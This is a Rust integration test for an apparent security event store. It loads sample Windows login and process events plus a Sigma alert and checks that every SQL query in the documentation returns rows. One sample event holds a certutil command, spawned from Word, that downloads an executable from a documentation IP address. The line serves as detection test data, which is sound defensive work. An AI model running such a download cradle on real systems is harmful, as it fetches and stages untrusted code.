//! Every query of `docs/queries.md` runs on the Parquet store, on sample data written
//! for it, and returns rows.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use vedette_core::alert::{alerts_to_batch, Alert, DetectionKind, Level};
use vedette_core::batch::EventBatch;
use vedette_core::dead_letter::{dead_letters_to_batch, DeadLetter};
use vedette_core::event::{Event, EventBatchBuilder};
use vedette_core::traits::{EventStore, Table};
use vedette_storage::parquet::ParquetStore;
use vedette_storage::QueryLimits;

/// The SQL blocks of a markdown text.
fn sql_blocks(markdown: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut current: Option<String> = None;
    for line in markdown.lines() {
        match (&mut current, line.trim()) {
            (None, "```sql") => current = Some(String::new()),
            (Some(_), "```") => blocks.extend(current.take()),
            (Some(block), _) => {
                block.push_str(line);
                block.push('\n');
            }
            (None, _) => {}
        }
    }
    blocks
}

/// An hour of a small Windows network: logins (some failed), process starts under a
/// few parents, a certutil download.
fn sample_events(now: i64) -> EventBatch {
    let mut b = EventBatchBuilder::new();
    let mut n = 0;
    let mut push = |e: Event| {
        n += 1;
        b.append(&Event {
            id: format!("q-{n}"),
            ingested_ms: now,
            ..e
        });
    };
    for i in 0..30 {
        push(Event {
            timestamp_ms: now - 3_600_000 + i * 60_000,
            dataset: "windows.security".into(),
            category: Some("authentication".into()),
            outcome: Some(if i % 3 == 0 { "failure" } else { "success" }.into()),
            user_name: Some(format!("user-{}", i % 4)),
            host_name: Some(format!("dc-{}", i % 2)),
            code: Some("4625".into()),
            ..Event::default()
        });
    }
    for (i, (parent, child, cmd)) in [
        (
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\notepad.exe",
            "notepad.exe a.txt",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c dir",
        ),
        (
            "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.50/a.bin a.exe",
        ),
    ]
    .iter()
    .enumerate()
    {
        push(Event {
            timestamp_ms: now - 600_000 + i as i64 * 1000,
            dataset: "windows.sysmon".into(),
            category: Some("process".into()),
            host_name: Some(format!("ws-{i}")),
            user_name: Some("asmith".into()),
            process_executable: Some((*child).into()),
            parent_executable: Some((*parent).into()),
            process_command_line: Some((*cmd).into()),
            fields: vec![
                ("EventID".into(), "1".into()),
                ("CommandLine".into(), (*cmd).into()),
            ],
            ..Event::default()
        });
    }
    EventBatch::new(b.finish().unwrap(), "doc", "acme", now)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_documented_query_runs_and_returns_rows() {
    let markdown =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/queries.md"))
            .unwrap();
    let queries = sql_blocks(&markdown);
    assert!(queries.len() >= 6, "{} queries found", queries.len());
    let dir = tempfile::tempdir().unwrap();
    let store = ParquetStore::open(dir.path(), 30, QueryLimits::default()).unwrap();
    let now = chrono::Utc::now().timestamp_millis();
    store
        .append(Table::Events, &sample_events(now))
        .await
        .unwrap();
    let alert = Alert {
        id: "a1".into(),
        time_ms: now - 1000,
        tenant: "acme".into(),
        kind: DetectionKind::Sigma,
        rule_id: "d2644136-7400-49e4-8b45-45b687d7b72a".into(),
        rule_title: "Certutil Used to Download a File".into(),
        rule_author: None,
        level: Level::High,
        tags: vec![],
        host: Some("ws-2".into()),
        user: Some("asmith".into()),
        event_ids: vec!["q-33".into()],
        matched: Default::default(),
        dedup_key: "k".into(),
    };
    let alerts = EventBatch::new(alerts_to_batch(&[alert]).unwrap(), "detect", "acme", now);
    store.append(Table::Alerts, &alerts).await.unwrap();
    let dead = DeadLetter::new(
        now,
        "acme",
        "syslog-tcp",
        "cef",
        0,
        "CEF header has 2 of its 8 `|`-separated fields",
        b"CEF:0|x",
    );
    let letters = EventBatch::new(
        dead_letters_to_batch(&[dead]).unwrap(),
        "ingest",
        "acme",
        now,
    );
    store.append(Table::DeadLetters, &letters).await.unwrap();
    for sql in &queries {
        let batches = common::store_suite::rows(&store, sql)
            .await
            .unwrap_or_else(|e| panic!("{e}\n{sql}"));
        let rows: usize = batches.iter().map(|b| b.num_rows()).sum();
        assert!(rows > 0, "no rows from\n{sql}");
    }
}
